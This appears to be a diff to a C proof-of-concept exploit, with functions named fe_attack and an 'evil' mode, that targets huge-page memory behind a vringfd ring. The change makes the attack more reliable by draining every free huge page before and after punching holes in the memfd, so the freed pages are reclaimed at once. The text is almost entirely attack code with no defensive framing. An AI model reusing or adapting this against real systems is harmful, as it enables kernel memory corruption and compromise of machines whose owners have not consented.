@@ -220,34 +220,27 @@ static int fe_make_mem(const char *kind, const char *evil)
 }
 
 /**
- * fe_grab_free_hugepages() - take every free huge page of the pool
+ * fe_grab_free_hugepages() - take every free huge page of the pool (kept until exit)
  *
- * Maps and touches HugePages_Free - HugePages_Rsvd anonymous huge pages
- * (kept until exit).
+ * One page at a time until the kernel has none left: the machine may have
+ * other users of the pool, so a count read from /proc/meminfo can be stale
+ * by the time it is used.
  */
 static void fe_grab_free_hugepages(void)
 {
+	unsigned long n = 0, psize = 2048;
 	char line[128];
-	unsigned long nfree = 0, nrsvd = 0, psize = 2048;
 	FILE *f = fopen("/proc/meminfo", "r");
-	void *p;
 
 	if (!f)
 		fe_die("/proc/meminfo");
-	while (fgets(line, sizeof(line), f)) {
-		sscanf(line, "HugePages_Free: %lu", &nfree);
-		sscanf(line, "HugePages_Rsvd: %lu", &nrsvd);
+	while (fgets(line, sizeof(line), f))
 		sscanf(line, "Hugepagesize: %lu kB", &psize);
-	}
 	fclose(f);
-	nfree = nfree > nrsvd ? nfree - nrsvd : 0;	/* reserved ones are not to be had */
-	if (!nfree)
-		return;
-	p = mmap(NULL, nfree * psize * 1024, PROT_READ | PROT_WRITE,
-		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB | MAP_POPULATE, -1, 0);
-	if (p == MAP_FAILED)
-		fe_die("taking the free huge pages");
-	printf("took %lu free huge pages\n", nfree);
+	while (mmap(NULL, psize * 1024, PROT_READ | PROT_WRITE,
+		    MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB | MAP_POPULATE, -1, 0) != MAP_FAILED)
+		n++;
+	printf("took %lu free huge pages\n", n);
 }
 
 /**
@@ -308,6 +301,9 @@ static int fe_attack(const char *evil, int memfd, struct vringfd_ring *tx, int k
 		if (ftruncate(memfd, 0) < 0)
 			fe_die("ftruncate");
 	} else if (!strcmp(evil, "punch")) {
+		/* pool empty first, so that the punched pages are taken at once:
+		 * a daemon walk in between would get a fresh zeroed page */
+		fe_grab_free_hugepages();
 		if (fallocate(memfd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, FE_MEM) < 0)
 			fe_die("punching the huge pages out");
 		fe_grab_free_hugepages();
